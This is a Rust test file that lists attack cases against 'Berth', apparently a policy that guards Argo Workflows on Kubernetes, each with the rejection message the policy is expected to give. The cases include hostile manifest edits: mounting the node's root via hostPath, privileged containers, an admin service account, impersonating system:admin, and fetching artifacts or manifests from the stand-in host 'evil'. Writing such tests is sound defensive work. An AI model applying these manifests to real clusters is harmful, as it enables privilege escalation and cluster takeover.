//! Attacks by Workflows: other accounts, images, programs, volumes.

use berth_core::render::Kind;
use serde_json::{Value, json};

use super::{Attack, CREATE, DRY, Scene};

impl Scene<'_> {
    #[expect(clippy::too_many_lines, reason = "a list of attacks")]
    pub(super) fn on_workflows(&self) -> Vec<Attack> {
        let request =
            json!({ "namespaceName": "payments-checkout", "team": "payments", "environment": "development" });
        let base = self.site.render(Kind::Create, &request, "r9");
        let edited = |what: &str, says: &str, edit: &dyn Fn(&mut Value)| self.edited(what, &base, edit, says);
        let container = "/spec/templates/0/containerSet/containers/0";
        let set = |pointer: &str, value: Value| {
            let pointer = pointer.to_owned();
            move |workflow: &mut Value| {
                let (parent, key) = pointer.rsplit_once('/').expect("a pointer");
                let parent = workflow.pointer_mut(parent).expect("a parent");
                match parent.as_array_mut() {
                    Some(items) => items[key.parse::<usize>().expect("a place")] = value.clone(),
                    None => parent[key] = value.clone(),
                }
            }
        };
        let at = |key: &str| format!("{container}/{key}");
        let fields = "the spec has fields that Berth doesn't write";
        let template = "a template has fields that Berth doesn't write";
        let label = |key: &str| format!("/metadata/labels/{}", self.label(key).replace('/', "~1"));
        let unlabelled = |key: &str, value: &str| {
            let (pointer, value) = (label(key), value.to_owned());
            move |workflow: &mut Value| {
                *workflow.pointer_mut(&pointer).expect("a label") = value.clone().into();
            }
        };
        let cron = json!({
            "apiVersion": "argoproj.io/v1alpha1", "kind": "CronWorkflow",
            "metadata": { "name": "evil", "namespace": self.site.workflows() },
            "spec": { "schedules": ["* * * * *"], "workflowSpec": { "entrypoint": "x", "templates": [] } },
        });
        let standing = [
            "patch",
            "workflow",
            "standing",
            DRY,
            "--type=merge",
            &format!("--namespace={}", self.site.workflows()),
        ]
        .map(str::to_owned);
        let patch = |what: &str, patch: &Value| {
            let args: Vec<&str> = standing.iter().map(String::as_str).collect();
            let patch = format!("--patch={patch}");
            self.attack(
                what,
                "admin",
                &[&args[..], &[&patch]].concat(),
                &Value::Null,
                "what a Workflow does can't be changed any more",
            )
        };
        vec![
            self.attack(
                "another kind",
                "admin",
                &CREATE,
                &cron,
                "only Workflows and WorkflowTemplates of Berth",
            ),
            edited(
                "no kind",
                "must name a kind of Workflow and a blueprint",
                &unlabelled("workflow-kind", "evil"),
            ),
            edited(
                "no blueprint",
                "must name a kind of Workflow and a blueprint",
                &unlabelled("blueprint", "evil"),
            ),
            edited(
                "another account",
                "runs as the ServiceAccount of its kind",
                &set("/spec/serviceAccountName", "admin-sa".into()),
            ),
            edited(
                "the account of another kind",
                "runs as the ServiceAccount of its kind",
                &unlabelled("workflow-kind", "delete"),
            ),
            edited("podSpecPatch", fields, &set("/spec/podSpecPatch", "{\"hostNetwork\":true}".into())),
            edited(
                "hooks",
                fields,
                &set("/spec/hooks", json!({ "running": { "template": "undo", "expression": "true" } })),
            ),
            edited(
                "volumes",
                fields,
                &set("/spec/volumes", json!([{ "name": "host", "hostPath": { "path": "/" } }])),
            ),
            edited("hostNetwork", fields, &set("/spec/hostNetwork", true.into())),
            edited(
                "another entrypoint",
                "the entrypoint is `berth`",
                &set("/spec/entrypoint", "undo".into()),
            ),
            edited(
                "root",
                "the entrypoint is `berth`",
                &set("/spec/securityContext/runAsNonRoot", false.into()),
            ),
            edited(
                "an argument from elsewhere",
                "arguments are parameters with a name and a value",
                &set(
                    "/spec/arguments/parameters/0",
                    json!({ "name": "namespaceName", "value": "\"payments-checkout\"", "globalName": "x" }),
                ),
            ),
            edited("outputs", template, &set("/spec/templates/0/outputs", json!({ "exitCode": "0" }))),
            edited(
                "labels of the pod",
                template,
                &set("/spec/templates/0/metadata", json!({ "labels": { "app": "argo-server" } })),
            ),
            edited(
                "arguments of a step",
                "a step names a template of its own Workflow",
                &set(
                    "/spec/templates/1/steps/0/0/arguments",
                    json!({ "parameters": [{ "name": "x", "value": "y" }] }),
                ),
            ),
            edited(
                "podSpecPatch in a template",
                template,
                &set("/spec/templates/0/podSpecPatch", "{}".into()),
            ),
            edited(
                "sidecars",
                template,
                &set("/spec/templates/0/sidecars", json!([{ "name": "evil", "image": "evil" }])),
            ),
            edited(
                "initContainers",
                template,
                &set("/spec/templates/0/initContainers", json!([{ "name": "evil", "image": "evil" }])),
            ),
            edited(
                "a folder of the node",
                "no other volumes than an empty one",
                &set("/spec/templates/0/volumes/0", json!({ "name": "berth", "hostPath": { "path": "/" } })),
            ),
            edited(
                "a file from elsewhere",
                "no other volumes than an empty one",
                &set(
                    "/spec/templates/0/inputs/artifacts/0",
                    json!({ "name": "namespace", "path": "/berth/namespace.json", "http": { "url": "http://evil" } }),
                ),
            ),
            edited(
                "a step of another template",
                "a step names a template of its own Workflow",
                &set(
                    "/spec/templates/1/steps/0/0",
                    json!({ "name": "rollback", "templateRef": { "name": "evil", "template": "evil" } }),
                ),
            ),
            edited(
                "another image",
                "every container runs registry.k8s.io/kubectl",
                &set(&at("image"), "evil".into()),
            ),
            edited("a shell", "every container runs kubectl", &set(&at("command"), json!(["sh"]))),
            edited(
                "an environment",
                "every container runs kubectl",
                &set(&at("env"), json!([{ "name": "KUBECONFIG", "value": "x" }])),
            ),
            edited(
                "privileges",
                "a read-only root and no privileges",
                &set(&at("securityContext/privileged"), true.into()),
            ),
            edited(
                "a writable root",
                "a read-only root and no privileges",
                &set(&at("securityContext/readOnlyRootFilesystem"), false.into()),
            ),
            edited(
                "another server",
                "an argument is none that Berth gives to kubectl",
                &set(&at("args"), json!(["get", "--server=https://evil"])),
            ),
            edited(
                "somebody else",
                "an argument is none that Berth gives to kubectl",
                &set(&at("args"), json!(["delete", "namespace", "--as=system:admin"])),
            ),
            edited(
                "a file of the net",
                "an argument is none that Berth gives to kubectl",
                &set(&at("args"), json!(["apply", "--filename=https://evil/x.json"])),
            ),
            edited(
                "a tag",
                "an argument is none that Berth gives to kubectl",
                &set(&at("args"), json!(["delete", "{{workflow.parameters.namespaceName}}"])),
            ),
            patch("other arguments", &json!({ "spec": { "arguments": { "parameters": [] } } })),
            patch("podSpecPatch later", &json!({ "spec": { "podSpecPatch": "{}" } })),
            patch("a template later", &json!({ "spec": { "workflowTemplateRef": { "name": "evil" } } })),
            patch("another account later", &json!({ "spec": { "serviceAccountName": "admin-sa" } })),
            patch(
                "another kind later",
                &json!({ "metadata": { "labels": { self.label("namespace"): "kube-system" } } }),
            ),
        ]
    }
}
